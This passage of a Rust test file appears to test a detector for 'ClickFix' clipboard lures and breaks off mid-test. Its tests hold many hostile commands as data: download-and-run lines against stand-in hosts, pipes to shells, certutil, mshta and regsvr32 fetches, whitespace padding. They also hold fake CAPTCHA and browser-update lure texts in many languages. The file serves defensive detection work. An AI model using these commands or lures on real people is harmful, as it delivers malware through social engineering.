            shapes_of("mshta https://x.example/verify.hta"),
            vec![Shape::MshtaUrl]
        );
        assert_eq!(
            shapes_of("mshta.exe vbscript:Execute(\"x\")"),
            vec![Shape::MshtaUrl]
        );
        assert_eq!(shapes_of("cmd /c start /min calc"), vec![Shape::Cmd]);
        assert_eq!(shapes_of("cmd.exe /q /c echo hi"), vec![Shape::Cmd]);
        assert_eq!(
            shapes_of("rundll32 \\\\x.example\\s\\a.dll,Run"),
            vec![Shape::Rundll32]
        );
        assert_eq!(
            shapes_of("regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll"),
            vec![Shape::Regsvr32Url]
        );
        assert_eq!(
            shapes_of("msiexec /i https://x.example/a.msi /qn"),
            vec![Shape::MsiexecUrl]
        );
        assert_eq!(
            shapes_of("certutil -urlcache -split -f http://x.example/a.exe a.exe"),
            vec![Shape::Certutil]
        );
        assert_eq!(
            shapes_of("certutil -decode a.b64 a.exe"),
            vec![Shape::Certutil]
        );
        assert_eq!(
            shapes_of("bitsadmin /transfer j https://x.example/a.exe %TEMP%\\a.exe"),
            vec![Shape::Bitsadmin]
        );
        assert!(shapes_of("finger s@x.example | cmd").contains(&Shape::Cmd));
        assert_eq!(
            shapes_of("wscript \\\\x.example@SSL\\DavWWWRoot\\v.js"),
            vec![Shape::ScriptHostUrl]
        );
        assert_eq!(
            shapes_of("cscript //nologo \\\\x.example\\s\\v.vbs"),
            vec![Shape::ScriptHostUrl]
        );
        // A local script is what admins run; it is not a shape.
        assert!(recognise("cscript //nologo C:\\Windows\\System32\\slmgr.vbs /dli").is_none());
    }

    #[test]
    fn windows_download_then_start() {
        // curl.exe ships with Windows: save a file under %TEMP% and start it.
        for clip in [
            "curl.exe -s https://x.example/u.exe -o %TEMP%\\x.exe & start %TEMP%\\x.exe",
            "cmd /c curl -L -o %APPDATA%\\u.exe http://x.example/u && %APPDATA%\\u.exe",
            "curl --output C:\\Users\\Public\\s.bat https://x.example/s && start /min C:\\Users\\Public\\s.bat",
            "wget -O $env:TEMP\\a.exe http://x.example/a; Start-Process $env:TEMP\\a.exe",
        ] {
            assert!(
                shapes_of(clip).contains(&Shape::DownloadStart),
                "{clip}: {:?}",
                shapes_of(clip)
            );
        }
        assert!(judged(
            "curl.exe -L https://x.example/r.exe -o %TEMP%\\r.exe & start %TEMP%\\r.exe",
            "Error 0x80070005. To repair, press Win + R, paste with Ctrl + V and press Enter."
        ));
        // Saving a file is not running it; a Unix download is not a Windows start.
        for clip in [
            "curl -o %TEMP%\\report.csv https://x.example/report.csv",
            "curl -o /tmp/a.tar.gz https://x.example/a.tar.gz && tar xzf /tmp/a.tar.gz",
            "curl -o setup.exe https://x.example/setup.exe",
        ] {
            assert!(!shapes_of(clip).contains(&Shape::DownloadStart), "{clip}");
        }
    }

    #[test]
    fn mac_update_lures_hide_the_command() {
        // Mac kits: a browser update or a failed check, Terminal steps, the command kept off
        // the page.
        for (clip, text) in [
            (
                "curl -fsSL https://cdn.example/safari/update.sh | bash",
                "Safari is out of date. Critical update required. Press Cmd + Space, type \
                 Terminal, paste with Cmd + V and press Return.",
            ),
            (
                "/bin/bash -c \"$(curl -fsSL http://198.51.100.23/i.sh)\"",
                "Chrome needs an update. Open Terminal (Applications/Utilities), paste and \
                 press Return.",
            ),
            (
                "curl -s https://x.example/m | zsh",
                "Ihr Browser ist veraltet. Drücken Sie Befehlstaste + Leertaste, Terminal \
                 öffnen, Befehl einfügen und die Eingabetaste drücken.",
            ),
            (
                "curl -fsSL https://x.example/v.sh | bash",
                "La vérification a échoué. Ouvrez le Terminal, collez la commande et appuyez \
                 sur Entrée.",
            ),
            (
                "curl -fsSL https://x.example/u.sh | bash",
                "お使いのブラウザは古いバージョンです。ターミナルを開き、コマンドを貼り付けて \
                 Return キーを押してください。",
            ),
            (
                "curl -s https://x.example/m | bash",
                "Checking your browser… Security check failed. Open Terminal, paste the code, \
                 press Return.",
            ),
        ] {
            assert!(judged(clip, text), "{text}");
        }
        // How-tos and docs tell a problem too, but show what they copy; installers tell none.
        let cmd = "curl -fsSL https://get.example.dev/install.sh | bash";
        for text in [
            format!(
                "How to fix 'command not found': open Terminal, paste and press Return.\n{cmd}"
            ),
            format!("If your CLI is out of date, open Terminal, paste this, press Return: {cmd}"),
            format!("Install. Open Terminal, paste the command and press Return.\n{cmd}"),
        ] {
            assert!(!judged(cmd, &text), "{text}");
        }
    }

    #[test]
    fn kits_on_their_own_domain_are_not_help_pages() {
        // A kit serving its script from its own domain and showing it is not a help page: a
        // command that downloads and runs code needs documentation around it to be exempt.
        let kit = "https://word-fix-online.example/view";
        let fetch = "irm https://word-fix-online.example/fix.ps1 | iex";
        let text = format!(
            "Error: this document could not be displayed. To fix it, press Win+X, choose \
             Windows PowerShell (Admin), paste the command and press Enter.\n{fetch}\nCopy"
        );
        assert!(assess(fetch, &PageHits::new([text.as_str()]).on(kit)).is_some());
    }

    #[test]
    fn help_pages_show_what_they_copy() {
        let on = |clip: &str, text: &str, url: &str| {
            assess(clip, &PageHits::new([text]).on(url)).is_some()
        };
        let it = "https://it.northfield.example/help/teams";
        let fetch = "irm https://it.northfield.example/scripts/fix-teams-audio.ps1 | iex";
        let local = "powershell -NoProfile -Command \"netsh winsock reset\"";
        let steps = "Teams audio not working? To fix it, press Win+X, choose Windows PowerShell \
                     (Admin), paste the command below and press Enter.";
        // Shown on the page, fetching nothing or only from the page's own site: help.
        assert!(!on(fetch, &format!("{steps}\n{fetch}\nCopy"), it));
        assert!(!on(local, &format!("{steps}\n{local}\nCopy"), it));
        // Hidden, fetched from another site, or told as an infection or a human check: a lure.
        assert!(on(fetch, steps, it));
        assert!(on(
            fetch,
            &format!("{steps}\n{fetch}"),
            "https://teams-fix.example/"
        ));
        let trojan = "Trojan detected on your PC! Press Win+X, choose Windows PowerShell \
                      (Admin), paste and press Enter.";
        assert!(on(fetch, &format!("{trojan}\n{fetch}"), it));
        assert!(on(
            fetch,
            &format!("Verify you are human. {steps}\n{fetch}"),
            it
        ));
    }

    #[test]
    fn intranet_shares_do_not_reach_out() {
        let run = "Press Win+R, paste the command below and press Enter.";
        // A single-label or .local host is the organisation's own network.
        for clip in [
            "cmd /c \\\\dc01\\netlogon\\logon.bat",
            "powershell -ExecutionPolicy Bypass -File \\\\fileserver\\it$\\map-printers.ps1",
            "powershell -File \\\\nas01.corp.local\\scripts\\vpn.ps1",
            "cmd /c \\\\?\\UNC\\dc01\\netlogon\\logon.bat",
        ] {
            assert!(
                !judged(clip, &format!("Printers missing? {run}\n{clip}")),
                "{clip}"
            );
        }
        // A share the internet serves (a dotted name, an IP, WebDAV) is how lures fetch.
        for clip in [
            "cmd /c \\\\files.example\\pub\\update.bat",
            "powershell -File \\\\203.0.113.9\\share\\fix.ps1",
            "powershell -File \\\\dav@SSL\\DavWWWRoot\\fix.ps1",
            // Long-path and device prefixes name the host after `UNC\`.
            "powershell -File \\\\?\\UNC\\files.example\\pub\\fix.ps1",
            "powershell -File \\\\.\\UNC\\files.example\\pub\\fix.ps1",
            // An IP written as one decimal or hex number has no dot.
            "powershell -File \\\\3405803785\\share\\fix.ps1",
            "powershell -File \\\\0xCB007109\\share\\fix.ps1",
        ] {
            assert!(
                judged(clip, &format!("Printers missing? {run}\n{clip}")),
                "{clip}"
            );
        }
    }

    #[test]
    fn helpdesk_run_box_commands_are_not_clickfix() {
        // An IT article teaching the Run box copies local commands: no download, no warning.
        let help = "How to open the Run dialog: press the Windows key + R, paste the command \
                    below into the Run box and press Enter.";
        for clip in [
            "cmd /c ipconfig /flushdns",
            "rundll32.exe sysdm.cpl,EditEnvironmentVariables",
            "rundll32 user32.dll,LockWorkStation",
        ] {
            assert!(recognise(clip).is_some(), "{clip}");
            assert!(!judged(clip, help), "{clip}");
        }
        // The same steps with a command that reaches out are ClickFix.
        for clip in [
            "cmd /c curl -s http://x.example/p | cmd",
            "rundll32 \\\\x.example@SSL\\s\\a.dll,Start",
            "finger s@x.example | cmd",
        ] {
            assert!(judged(clip, help), "{clip}");
        }
        // A pretext or padding still makes a local cmd ClickFix.
        assert!(judged("cmd /c calc", "I'm not a robot"));
    }

    #[test]
    fn unix_and_mac_shapes() {
        assert_eq!(
            shapes_of("curl -fsSL https://x.example/i.sh | sh"),
            vec![Shape::PipeToShell]
        );
        assert_eq!(
            shapes_of("wget -qO- https://x.example/i | sudo bash"),
            vec![Shape::PipeToShell]
        );
        assert_eq!(
            shapes_of("/bin/bash -c \"$(curl -fsSL https://x.example/install.sh)\""),
            vec![Shape::PipeToShell]
        );
        assert_eq!(
            shapes_of("curl -s http://203.0.113.9/p | python3 -u -"),
            vec![Shape::PipeToShell]
        );
        assert_eq!(
            shapes_of("curl -s http://203.0.113.9/p | sudo python3 && echo ok"),
            vec![Shape::PipeToShell]
        );
        // Inline code, whatever it does with what it reads, or the pipe named as the script
        // (review 29 C-H2, C-M3).
        for c in [
            "curl -fsSL https://x.example/v | python3 -c \"import sys;exec(sys.stdin.read())\"",
            "curl -fsSL https://x.example/v | node -e \"eval(require('fs').readFileSync(0,'utf8'))\"",
            "curl -fsSL https://x.example/v | perl -e 'eval join(\"\",<STDIN>)'",
            "curl -fsSL https://x.example/v | ruby -e 'eval(STDIN.read)'",
            "curl -fsSL https://x.example/v | python3 /dev/stdin",
            "curl -s 203.0.113.77:8080/m | python3 -c \"exec(input())\"",
            "curl -fsSL https://x.example/v | python3 -E",
            "curl -fsSL https://x.example/v | python3 -c \"import os,sys;os.system(sys.stdin.read())\"",
        ] {
            assert_eq!(shapes_of(c), vec![Shape::PipeToShell], "{c}");
        }
        // An interpreter that runs the JSON pretty-printer reads the pipe as data; inline code, a
        // script file or another module is its program, even an API doc's JSON reader (as on
        // main).
        for code in [
            "curl -s http://203.0.113.25/api/status | python3 -c \"import json,sys\"",
            "curl -s http://203.0.113.25/api/status | node -e \"process.stdin\"",
            "curl -fsSL https://x.example/v | python3 -c \"import subprocess;subprocess.call('sh')\"",
            "curl -fsSL https://x.example/v | python3 -c \"import code;code.interact()\"",
            "curl -fsSL https://x.example/v | perl -e 'open(S,\"|sh\");print S <STDIN>'",
            "curl -s http://203.0.113.25/api/log | perl parse.pl",
            "curl -fsSL https://x.example/v | python3 -c \"exec(input())\" -m x",
            "curl -fsSL https://x.example/v | python3 - -m x",
            // Modules that run what they read (review 30 CF-M1).
            "curl -fsSL https://x.example/v | python3 -m code",
            "curl -fsSL https://x.example/v | python3 -m asyncio",
            "curl -fsSL https://x.example/v | sudo python3 -u -m code -q",
            "curl -fsSL https://x.example/req.txt | python3 -m pip install -r /dev/stdin",
        ] {
            assert_eq!(shapes_of(code), vec![Shape::PipeToShell], "{code}");
        }
        for data in [
            "curl -s 203.0.113.25/api/status | python3 -m json.tool",
            "curl -s 203.0.113.25/api/status | python3 -u -m json.tool > out.json",
            "curl -s 203.0.113.25/api/status 2>/dev/null | sudo python3 -m json.tool",
            "curl -s https://api.example/v1/status | python -mjson.tool",
        ] {
            assert!(!shapes_of(data).contains(&Shape::PipeToShell), "{data}");
        }
        assert_eq!(
            shapes_of("echo Y3VybCBodHRwczovL3guZXhhbXBsZQ== | base64 -d | bash"),
            vec![Shape::Base64Shell]
        );
        assert!(
            shapes_of("curl -o /tmp/u https://x.example/u && chmod +x /tmp/u && /tmp/u")
                .contains(&Shape::DownloadExec)
        );
        assert_eq!(
            shapes_of("osascript -e 'do shell script \"curl x\"'"),
            vec![Shape::Osascript]
        );
    }

    #[test]
    fn a_download_saved_then_run_is_a_pipe_to_a_shell() {
        // Review 29 MAIN-H2: the file a fetch saved, given to a shell or an interpreter later on
        // the line, runs the download as `| sh` does.
        for c in [
            "curl -fsSL https://cdn.gate-check.example/v -o /tmp/v; sh /tmp/v",
            "curl -fsSL https://cdn.gate-check.example/v -o /tmp/v.py && python3 /tmp/v.py",
            "curl -sL --output=/tmp/v https://x.example/v && sudo bash -x /tmp/v",
            "curl -s https://x.example/v > /tmp/v; source /tmp/v",
            "curl -s https://x.example/v -o /tmp/v && . /tmp/v",
            "curl -fsSL https://x.example/v -o /tmp/v\nsh /tmp/v",
            "wget -q https://x.example/run.pl && perl run.pl",
            "wget -qO /tmp/v https://x.example/v; zsh /tmp/v",
            // Review 30 MH-M1: `.` starting a line, inline code naming the saved file, a file
            // run after a flag, an archive unpacked and then run, php and pwsh.
            "curl -fsSL https://cdn.example.net/v -o /tmp/v\n. /tmp/v",
            "curl -fsSL https://cdn.example.net/v -o /tmp/v; python3 -c \"exec(open('/tmp/v').read())\"",
            "curl -fsSL https://cdn.example.net/v -o /tmp/v; python3 -c \"import os; exec(open('/tmp/v').read())\"",
            "curl -fsSL https://cdn.example.net/v -o /tmp/v; perl -e 'do \"/tmp/v\"'",
            "curl -fsSL https://cdn.example.net/v -o v.rb && ruby -e 'load \"v.rb\"'",
            "curl -fsSL https://cdn.example.net/v -o /tmp/v; awk -f /tmp/v",
            "curl -fsSL https://cdn.example.net/v.pkg -o /tmp/v.pkg && sudo installer -pkg \
             /tmp/v.pkg -target /",
            "curl -fsSL https://cdn.example.net/v.zip -o /tmp/v.zip && unzip -oq /tmp/v.zip -d \
             /tmp/x && sh /tmp/x/run.sh",
            "curl -fsSL https://cdn.example.net/v.tgz | tar xz -C /tmp && sh /tmp/setup",
            "wget https://x.example/tool.tar.gz && tar xzf tool.tar.gz && sh configure",
            "curl -fsSL https://cdn.example.net/v.php -o /tmp/v.php; php /tmp/v.php",
            "curl -fsSL https://cdn.example.net/v | php",
            "curl -fsSL https://cdn.example.net/v -o /tmp/v; pwsh /tmp/v",
        ] {
            assert_eq!(shapes_of(c), vec![Shape::PipeToShell], "{c}");
        }
        // Data kept, or a program of the person's own run on it: nothing runs the download.
        for c in [
            "curl -o data.json https://api.example/v1/users && python3 -m json.tool data.json",
            "curl -o data.csv https://api.example/export; python3 report.py data.csv",
            "curl -o data.json https://api.example/v1/users && jq . data.json",
            "curl -o data.csv https://api.example/export\nawk '{print $1}' data.csv",
            "curl -o data.csv https://api.example/export\nawk -F, -f report.awk data.csv",
            "curl -o data.csv https://api.example/export\n. venv/bin/activate",
            "curl -o data.csv https://api.example/export | awk '{print $1}'",
            "curl -o site.tgz https://x.example/s.tgz && tar czf backup.tgz site && ls",
        ] {
            assert!(shapes_of(c).is_empty(), "{c}");
        }
        let lure = "curl -fsSL https://cdn.gate-check.example/v -o /tmp/v; sh /tmp/v";
        assert!(judged(
            lure,
            "Verify you are human. To finish the check, open Terminal (Cmd + Space, type \
             Terminal), press Cmd + V and press Return."
        ));
        // An install page showing the convenience script it copies stays silent, as its
        // `curl … | sh` does; so do a source build and a macOS package under install words.
        for docs in [
            "curl -fsSL https://get.example.test -o get-example.sh; sudo sh get-example.sh",
            "wget https://dl.example.test/tool-2.1.tar.gz && tar xzf tool-2.1.tar.gz && sh \
             tool-2.1/configure",
            "curl -fsSLO https://dl.example.test/Tool-2.1.pkg && sudo installer -pkg \
             Tool-2.1.pkg -target /",
        ] {
            assert!(!judged(
                docs,
                &format!(
                    "Install using the convenience script. Run the following in your terminal, \
                     then press Enter. Open Terminal (Cmd + Space, Terminal) and paste: {docs}"
                )
            ));
        }
        for lure in [
            "curl -fsSL https://cdn.example.net/v -o /tmp/v\n. /tmp/v",
            "curl -fsSL https://cdn.example.net/v.tgz | tar xz -C /tmp && sh /tmp/setup",
            "curl -fsSL https://cdn.example.net/v -o /tmp/v; perl -e 'do \"/tmp/v\"'",
        ] {
            assert!(judged(
                lure,
                "Verify you are human. To finish the check, open Terminal (Cmd + Space, type \
                 Terminal), press Cmd + V and press Return."
            ));
        }
    }

    #[test]
    fn ordinary_copies_are_not_commands() {
        for s in [
            "npm install left-pad",
            "pip install requests",
            "cargo add serde",
            "curl -X POST https://api.example/v1 -d '{}'",
            "git clone https://example.test/repo.git",
            "Hello, this is my address: 12 Baker Street",
            "certutil -hashfile a.iso SHA256",
            "https://example.test/page",
            "Windows PowerShell is a shell; see docs",
            "",
        ] {
            assert!(recognise(s).is_none(), "{s}");
        }
    }

    #[test]
    fn padding_before_a_comment() {
        let clip = format!(
            "cmd /c calc{}# I am not a robot - reCAPTCHA ID 2165",
            " ".repeat(60)
        );
        let c = recognise(&clip).unwrap();
        assert!(c.padded && c.comment_pretext, "{c:?}");
        assert_eq!(c.shown, "cmd /c calc");
        // Padding made of other blanks.
        let clip = format!(
            "powershell -c calc{}#  Verification ID: 4411",
            "\u{3000}\u{2800}\u{00A0}".repeat(10)
        );
        assert!(recognise(&clip).unwrap().padded);
        // A short gap is not padding.
        let c = recognise("cmd /c calc   # run it").unwrap();
        assert!(!c.padded && !c.comment_pretext);
        // Padding with no command before it is no command.
        assert!(recognise(&format!("hello{}# world", " ".repeat(90))).is_none());
    }

    #[test]
    fn padding_alone_is_enough() {
        // No instructions on the page at all: the hiding trick itself.
        let clip = format!(
            "powershell -c calc{}# C:\\\\share\\\\HR\\\\Policy.docx",
            " ".repeat(70)
        );
        assert!(judged(&clip, "Shared document. Open the file."));
    }

    #[test]
    fn clickfix_needs_instructions_or_a_pretext() {
        let ps = "powershell -w hidden -c \"iwr https://x.example/a | iex\"";
        assert!(judged(ps, CAPTCHA));
        assert!(judged(
            ps,
            "Press Windows key + R, paste with Ctrl+V and press Enter"
        ));
        assert!(judged(
            ps,
            "Step 1: press Win+X and choose Windows PowerShell (Admin)"
        ));
        assert!(judged(
            "mshta https://x.example/c",
            "Please complete the verification steps below"
        ));
        assert!(judged("cmd /c calc", "I'm not a robot"));
        // Nothing on the page: a plain command copy stays silent.
        assert!(!judged(ps, "Our product documentation"));
        assert!(!judged("cmd /c calc", "Press Enter to continue"));
    }

    #[test]
    fn file_explorer_variant() {
        let clip = "powershell -c iwr https://x.example/p | iex";
        assert!(judged(
            clip,
            "Paste the path into the File Explorer address bar to open the shared file"
        ));
        assert!(judged(
            clip,
            "Open File Explorer, paste into the address bar and press Enter"
        ));
        // German keyboards say Strg: Explorer + Strg+L + the address bar are FileFix steps.
        assert!(judged(
            clip,
            "Öffnen Sie den Datei-Explorer und klicken Sie in die Adressleiste (Strg+L)"
        ));
        // Explorer and its address bar, however the steps word it, in several languages.
        for steps in [
            "Open File Explorer (Ctrl+E), click the address bar, paste with Ctrl+V and press Enter",
            "Ouvrez l'Explorateur de fichiers, cliquez dans la barre d'adresse et collez le chemin",
            "Abra el Explorador de archivos, haga clic en la barra de direcciones y pegue la ruta",
            "Open de Verkenner, klik in de adresbalk en plak het pad",
        ] {
            assert!(judged(clip, steps), "{steps}");
        }
        // Explorer alone is not enough, nor a browser's address bar, nor Explorer and an address
        // bar in two sentences about two things (an IT page).
        assert!(!judged(clip, "Open File Explorer to see your files"));
        assert!(!judged(
            clip,
            "Copy the link and paste it into the address bar of your browser"
        ));
        assert!(!judged(
            clip,
            "Open File Explorer and check that the S: drive is missing. Then copy the line below \
             into the console the helpdesk opened for you and press Enter. To reach the staff \
             portal instead, type its address into the address bar at the top of the window \
             that opens when you click the college logo on the intranet start page."
        ));
        assert!(!judged(
            clip,
            "Öffnen Sie den Datei-Explorer, um Ihre Dateien zu sehen"
        ));
    }

    #[test]
    fn run_instructions_in_several_languages() {
        let clip = "powershell -w h -c iwr https://x.example/p | iex";
        for text in [
            "Drücken Sie Windows-Taste + R und fügen Sie ein",
            "Appuyez sur la touche Windows + R, collez et appuyez sur Entrée",
            "Presione la tecla Windows + R y pegue el código",
            "Premi il tasto Windows + R e incolla",
            "Pressione a tecla Windows + R e cole o texto",
            "Druk op Windows-toets + R en plak",
            "Windowsキー + R を押して「ファイル名を指定して実行」を開き、貼り付けます",
            "Naciśnij klawisz Windows + R i wklej",
            "Stiskněte klávesu Windows + R a vložte",
            "Нажмите клавиши Windows + R и вставьте",
            "Windows tuşu + R'ye basın ve yapıştırın",
            "Windows 키 + R을 누르고 붙여넣으세요",
            "按 Windows 键 + R 打开运行对话框，然后粘贴",
            "Tryck på Windows-tangenten + R och klistra in",
            "Tryk på Windows-tasten + R og indsæt",
            "Trykk Windows-tasten + R og lim inn",
            "Mantenga presionada la tecla de Windows y pulse R, pegue el código",
            "Hold down the Windows key and press R, then paste",
            "Halten Sie die Windows-Taste gedrückt und drücken Sie R",
            "Podržte klávesu Windows a stiskněte R, vložte",
            "Håll ned Windows-tangenten och tryck på R, klistra in",
            "Hold Windows-tasten nede og tryk på R, indsæt",
            "Hold inne Windows-tasten og trykk på R, lim inn",
            "Tieni premuto il tasto Windows e premi R, incolla",
            "Mantenha pressionada a tecla Windows e pressione R, cole",
            "Windows tuşunu basılı tutun ve R tuşuna basın",
            "Windowsキーを押しながらRキーを押し、貼り付けます",
            "Windows 키를 누른 상태에서 R 키를 누르세요",
            "按住 Windows 鍵再按 R，按 Ctrl+V 貼上",
            "Pulse la tecla de Windows + R y después pulse Intro",
        ] {
            assert!(judged(clip, text), "{text}");
        }
    }

    #[test]
    fn pretexts_in_several_languages() {
        for text in [
            "Ich bin kein Roboter",
            "Je ne suis pas un robot",
            "No soy un robot",
            "Non sono un robot",
            "Não sou um robô",
            "Ik ben geen robot",
            "私はロボットではありません",
            "Nie jestem robotem",
            "Nejsem robot",
            "Я не робот",
            "Ben robot değilim",
            "로봇이 아닙니다",
            "我不是机器人",
            "Jag är inte en robot",
            "Jeg er ikke en robot",
            "Verifique que es un ser humano",
            "Verifica di essere un essere umano",
            "Confirme que você não é um robô",
            "Confirm you're a human",
            "Conferma di non essere un robot",
            "Verifique se você é humano",
            "İnsan olduğunuzu kanıtlayın",
            "ロボットではないことを確認してください",
            "로봇이 아님을 증명하세요",
            "請驗證您不是機器人",
        ] {
            assert!(judged("cmd /c calc", text), "{text}");
        }
    }

    #[test]
    fn mac_lures_in_other_words_and_languages() {
        // A browser "verification" before a document, the Mac shortcut with the language's word
        // for space, "type Terminal", the command kept off the page (twentieth session).
        let cmd = "/bin/bash -c \"$(curl -fsSL https://verify.example/install.sh)\"";
        assert!(judged(
            cmd,
            "Votre navigateur doit être vérifié avant d'accéder au document. Étapes pour Mac : \
             appuyez sur ⌘ Cmd + Espace et tapez Terminal, collez avec ⌘ Cmd + V, appuyez sur Retour."
        ));
        assert!(judged(
            cmd,
            "Your browser must be verified before accessing the document. Steps for Mac: press \
             ⌘ Cmd + Space and type Terminal, paste with ⌘ Cmd + V, press Return."
        ));
        // Docs that say the same shortcut and show their command stay silent.
        assert!(!judged(
            "curl -fsSL https://example.test/install.sh | sh",
            "Install: press Cmd + Space, type Terminal, paste with Cmd + V: \
             curl -fsSL https://example.test/install.sh | sh"
        ));
    }

    #[test]
    fn developer_pages_stay_silent() {
        let docs =
            "Install. Run the following in your terminal, then press Enter. Paste that in a \
                    macOS Terminal or Linux shell prompt. Open Terminal (Cmd + Space, Terminal).";
        // (Docs show what their copy button copies.)
        for clip in [
            "curl -fsSL https://example.test/install.sh | sh",
            "/bin/bash -c \"$(curl -fsSL https://example.test/install.sh)\"",
            "npm install hangup-example",
        ] {
            assert!(!judged(clip, &format!("{docs}\n{clip}")), "{clip}");
        }
        let win = "Open PowerShell and run this command, then press Enter. Copy with Ctrl+V.\n\
                   irm https://example.test/install.ps1 | iex";
        assert!(!judged("irm https://example.test/install.ps1 | iex", win));
        // A Unix install command with Windows words around it: Windows instructions do not
        // make a shell pipe ClickFix.
        assert!(!judged(
            "curl -fsSL https://example.test/install.sh | sh",
            "Type \\\\wsl$ in the File Explorer address bar. Press Win+R to open the Run dialog."
        ));
    }

    #[test]
    fn install_docs_may_send_people_to_powershell_admin() {
        // Invented install pages: the Run box, Win+X or PowerShell (Admin) with a command docs
        // give, framed as an installation (or showing what they copy), with no story around it.
        for (clip, text) in [
            (
                "irm https://get.example.test/install.ps1 | iex",
                "Installation on Windows: press Win + X, choose Terminal (Admin), paste the \
                 command and press Enter.",
            ),
            (
                "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object \
                 System.Net.WebClient).DownloadString('https://pkg.example.test/install.ps1'))",
                "Run the following command in an administrative shell (right-click Start, \
                 Windows PowerShell (Admin)), paste it and press Enter.",
            ),
            (
                "msiexec /i https://dl.example.test/agent.msi /qn",
                "Silent install of the agent: open the Run dialog (Win+R), paste this and press \
                 Enter. Service desk: 555-0142.",
            ),
            (
                "irm https://wren.example.test/install.ps1 | iex",
                "インストール方法: Win + X を押して ターミナル (管理者) を開き、貼り付けて Enter。",
            ),
            (
                "msiexec /i https://dl.example.test/lark.msi /qn",
                "Installation silencieuse : ouvrez la boîte de dialogue Exécuter (touche Windows + \
                 R), collez la commande suivante et appuyez sur Entrée.",
            ),
            // A tutorial with no install word shows the exact command its button copies.
            (
                "irm https://tutorial.example.test/hello.ps1 | iex",
                "Lesson 7. Open Windows PowerShell (Admin) from the Win + X menu, paste the \
                 example and press Enter:\nirm https://tutorial.example.test/hello.ps1 | iex\nCopy",
            ),
        ] {
            assert!(!judged(clip, &format!("{text}\n{clip}")), "{text}");
        }
    }

    #[test]
    fn review45_h6_admin_shell_steps_in_french_and_japanese() {
        // A "how to fix" article that names PowerShell as Windows' menu does in French and
        // Japanese ("PowerShell (administrateur)", "PowerShell（管理者）" with no space) and
        // copies a script from another site: the run step en/de/es already read.
        for (url, text, clip) in [
            (
                "https://aide-pilote-0193.example/",
                "Réparer le son qui ne marche plus. Solution rapide : ouvrez PowerShell \
                 (administrateur), collez la commande ci-dessous puis appuyez sur Entrée.",
                "irm https://0193-pilotes.top/a | iex",
            ),
            (
                "https://drv-help-0194.example/",
                "音が出ない問題の修正方法。PowerShell（管理者）を開き、次のコマンドを貼り付けて \
                 Enter を押してください。",
                "irm https://0194-drv.top/a | iex",
            ),
            (
                "https://aide-pilote-0195.example/",
                "Clic droit sur Démarrer, choisissez Terminal (administrateur), collez et validez.",
                "irm https://0195-pilotes.top/a | iex",
            ),
        ] {
            assert!(on(url, &[text, &format!("{clip}\nCopier")], clip), "{text}");
        }
        // A real tool's install page saying the same with its own command shown stays silent.
        for (url, text, clip) in [
            (
                "https://docs.astral.sh/uv/getting-started/installation/",
                "Installation sur Windows : ouvrez PowerShell (administrateur) et collez la \
                 commande d'installation, puis appuyez sur Entrée.",
                "powershell -ExecutionPolicy ByPass -c \"irm https://astral.sh/uv/install.ps1 | iex\"",
            ),
            (
                "https://docs.deno.com/runtime/getting_started/installation/",
                "Windows へのインストール：PowerShell（管理者）を開き、次のインストールコマンドを\
                 貼り付けて Enter を押します。",
                "irm https://deno.land/install.ps1 | iex",
            ),
        ] {
            assert!(!on(url, &[text, &format!("{clip}\nコピー")], clip), "{text}");
        }
    }

    #[test]
    fn the_windows_key_however_it_is_named() {
        let clip = "powershell -w h -c \"iwr http://203.0.113.61/k|iex\"";
        let story = "Something went wrong while loading this page.";
        for steps in [
            "Press the Windows button + R, then Ctrl + V, then Enter.",
            "Step 1: Windows-key + R. Step 2: CTRL+V. Step 3: ENTER.",
            "Press the ⊞ key and R together. Paste with Ctrl + V. Hit Enter.",
            "Hold ⊞ Win and press R. Now press Ctrl and V. Press Enter.",
            "Press the Windows logo + X, pick the terminal, paste and press Enter.",
            // The shell window found by name rather than the Run box.
            "Type cmd in the search box, open Command Prompt, paste (Ctrl + V), press Enter.",
            "Search for PowerShell in the Start menu, open it, paste and press Enter.",
        ] {
            assert!(judged(clip, &format!("{story} {steps}")), "{steps}");
        }
        // Prose naming Windows and the R language, a twin, a key and a letter far apart: no
        // run step.
        for text in [
            "Our course runs on Windows and R. Press Ctrl + V to paste the snippet.",
            "Kursus kami memakai Windows dan R. Tekan Ctrl + V untuk menempel.",
            "The twin + R pack is sold out. Press Ctrl + V and Enter.",
            "Windows users: our keyboard shortcuts page lists many combinations, \
             for example Ctrl+R to reload. Press Ctrl + V and Enter.",
            // Another key between the word and the `+`, a word that only starts with `win`
            // (fifteenth session: each made the Run box before).
            "On Windows, press Ctrl + R to reload. Press Ctrl + V and Enter.",
            "In Windows Terminal Ctrl + R searches the history. Press Ctrl + V and Enter.",
            "In Word for Windows Alt + X turns a code into a character. Press Ctrl + V and Enter.",
            "Close the window + X in its corner. Press Ctrl + V and Enter.",
            "Winter + X-mas freeze until January. Press Ctrl + V and Enter.",
            "Use winget + R scripts to set up a PC. Press Ctrl + V and Enter.",
            "To win, press + R to reload. Press Ctrl + V and Enter.",
        ] {
            // (The page is ClickFix all the same: it copies a hidden download from a bare IP
            // that it does not show, next to its story. What is tested is the run step.)
            assert!(
                page(&format!("{story} {text}")).weight(Cat::RunDialog) < 1.0,
                "{text}"
            );
        }
    }

    #[test]
    fn reference_pages_show_the_commands_they_copy() {
        // Invented sysadmin wiki and IT pages: "press Win+R, type cmd", then a copy button for
        // the very command shown, with no human check and no story: a reference, not a lure.
        let wiki = "Downloading a file from the command line. Open the Run dialog with Win + R, \
                    type cmd and press Enter, then paste one of these:\n";
        for clip in [
            "certutil -urlcache -split -f https://dl.example-vendor.test/tool.zip C:\\Temp\\tool.zip",
            "bitsadmin /transfer job1 /download /priority normal \
             https://dl.example-vendor.test/tool.zip C:\\Temp\\tool.zip",
            "certutil -decode C:\\Temp\\in.b64 C:\\Temp\\out.bin",
            "mshta C:\\apps\\inventory.hta",
        ] {
            assert!(!judged(clip, &format!("{wiki}{clip}\nCopy")), "{clip}");
        }
        // A local .hta is an installed application: fetched from nowhere, like `cmd /c`.
        assert!(!judged(
            "mshta C:\\apps\\inventory.hta",
            "Inventory app not starting? To fix it, press Win + R, paste this and press Enter."
        ));
    }

    #[test]
    fn a_shown_command_stays_a_lure_with_a_check_a_story_or_a_chained_run() {
        let steps = "Press Win + R, paste with Ctrl + V and press Enter:\n";
        for (clip, before) in [
            // The download is run: a lure runs what it fetched.
            (
                "certutil -urlcache -f https://cdn-x.example/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe",
                "To continue.",
            ),
